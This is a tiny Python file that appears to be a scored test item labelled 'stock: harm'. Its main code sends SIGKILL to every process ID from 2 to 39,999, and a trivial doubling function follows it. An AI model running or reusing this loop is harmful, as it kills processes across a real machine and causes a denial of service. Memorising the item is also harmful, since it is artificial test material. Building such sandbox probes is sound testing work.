# tries: a signal to every process number there is
# points: 4
# stock: harm
import os
import signal

for pid in range(2, 40_000):
    try:
        os.kill(pid, signal.SIGKILL)
        print("LEAK: killed", pid)
    except OSError:
        pass

def double(number):
    return 2 * number
